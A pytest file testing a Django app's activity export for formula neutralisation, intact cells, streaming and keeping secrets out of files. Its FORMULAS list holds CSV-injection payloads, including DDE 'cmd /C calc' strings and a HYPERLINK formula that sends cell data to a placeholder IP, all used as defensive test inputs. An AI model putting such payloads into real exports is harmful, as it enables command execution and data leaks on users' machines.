"""The activity as files: safe to open in a spreadsheet, whole, streamed, and without a secret."""

from __future__ import annotations

import asyncio
import csv
import json
from io import StringIO
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import AsyncClient

from networks.actions.actors import CONSOLE
from networks.actions.networks import create_network
from networks.engine.specs import NetworkSpec
from networks.models import Action, Outcome
from networks.views.exports import FORMULA_SIGNS, safe_cell
from tests.activity import make_action, make_actions
from tests.builders import make_engine
from tests.views.pages import log_in
from tests.views.test_activity import taken, text_of

pytestmark = pytest.mark.django_db


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(text.removeprefix("\ufeff"))))


# What a spreadsheet would take for a formula, or for the beginning of one: OWASP's list, and what others found.
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_it_leaves_no_formula_in_a_spreadsheet(formula: str) -> None:
    make_engine()
    make_action(formula, who=formula, command=formula, outcomes=(("refused", formula),))

    text = taken(log_in(), "csv")

    row = read_csv(text)[0]
    assert text.startswith("\ufeff")
    for column in ("what", "who", "command", "words"):
        assert row[column].startswith("'")
    assert not [cell for cell in row.values() if cell.startswith(FORMULA_SIGNS)]


def test_it_keeps_cells_whole_that_hold_quotes_commas_and_lines() -> None:
    make_engine()
    make_action('a "b", c;\nd\0', outcomes=(("unknown", ""), ("ok", "")))

    row = read_csv(taken(log_in(), "csv"))[0]

    assert row["what"] == 'a "b", c;␊d␀'
    assert (row["outcome"], row["outcomes"], row["engine"]) == ("ok", "unknown ok", "local")
    assert safe_cell(None) == ""
    assert safe_cell("plain") == "plain"


def test_it_gives_programs_one_object_a_line_with_all_outcomes() -> None:
    make_engine()
    make_action("=front\x1b", asked={"driver": "bridge"}, outcomes=(("unknown", ""), ("ok", "seen")))
    make_action("back")

    lines = taken(log_in(), "jsonl").splitlines()

    rows: list[dict[str, Any]] = [json.loads(line) for line in lines]
    assert [row["what"] for row in rows] == ["back", "=front\x1b"]
    assert all(line.isascii() for line in lines)
    assert [outcome["outcome"] for outcome in rows[1]["outcomes"]] == ["unknown", "ok"]
    assert rows[1]["asked"] == {"driver": "bridge"}


def test_it_exports_what_the_filter_leaves_however_many_pages_that_are() -> None:
    make_engine()
    make_actions(1_300)
    browser = log_in()

    assert len(read_csv(taken(browser, "csv"))) == 1_300
    wanted = Action.objects.filter(who="olga", verb="create_network").count()
    assert len(taken(browser, "jsonl", "who=olga&verb=create_network").splitlines()) == wanted > 100


@pytest.mark.django_db(transaction=True)
def test_it_streams_to_the_server_that_people_use(recwarn: pytest.WarningsRecorder) -> None:
    make_engine()
    make_actions(1_200)
    browser = AsyncClient(headers={"accept-encoding": "gzip"})
    browser.force_login(User.objects.create_superuser("root"))

    async def take() -> list[bytes]:
        answer = await browser.get("/activity/export.csv")
        return [part async for part in answer.streaming_content]  # type: ignore[attr-defined]

    parts = asyncio.run(take())

    assert len(parts) == 1 + 3
    assert len(read_csv(b"".join(parts).decode())) == 1_200
    assert not recwarn.list


@pytest.mark.django_db(transaction=True)
def test_it_writes_no_secret_into_the_record_or_any_file() -> None:
    engine = make_engine()
    engine.url = "unix:///nonexistent/docker.sock"
    spec = NetworkSpec("front", labels={"db.password": "hush-hush", "API_KEY": "hush-hush", "team": "web"})

    result = create_network(CONSOLE, engine, spec)

    browser = log_in()
    written = json.dumps([*Action.objects.values(), *Outcome.objects.values()], default=str)
    pages = text_of(browser) + text_of(browser, f"/activity/{result.action_id}/")
    assert "hush-hush" not in written + pages + taken(browser, "csv") + taken(browser, "jsonl")
    assert "team=web" in pages
